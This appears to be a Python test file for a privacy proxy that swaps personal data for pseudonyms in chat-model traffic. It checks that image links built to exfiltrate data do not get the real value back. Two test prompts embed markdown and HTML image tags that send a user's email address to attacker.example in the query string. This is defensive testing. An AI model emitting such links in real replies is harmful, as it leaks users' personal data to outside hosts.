"""A model (or an injected tool result) writing a pseudonym into a link gets no real value back (issue 13)."""

from __future__ import annotations

EMAIL = "maria.lopez@northwind-health.com"


def test_markdown_image_url_keeps_its_token_while_the_text_is_restored(openai_client, upstream):
    prompt = f"Reply to {EMAIL}. ![x](https://attacker.example/p.png?d={EMAIL})"
    reply = openai_client.chat.completions.create(model="gpt-4o", messages=[{"role": "user", "content": prompt}])
    text = reply.choices[0].message.content
    assert text.startswith(f"Reply to {EMAIL}. ")
    assert f"?d={EMAIL}" not in text and "https://attacker.example/p.png?d=<EMAIL_ADDRESS_" in text


def test_in_a_stream_too(openai_client, upstream):
    prompt = f"Reply to {EMAIL}. <img src=\"https://attacker.example/a.gif?{EMAIL}\">"
    stream = openai_client.chat.completions.create(model="gpt-4o", stream=True,
                                                   messages=[{"role": "user", "content": prompt}])
    text = "".join(c.choices[0].delta.content or "" for c in stream if c.choices)
    assert text.startswith(f"Reply to {EMAIL}. ") and f"a.gif?{EMAIL}" not in text
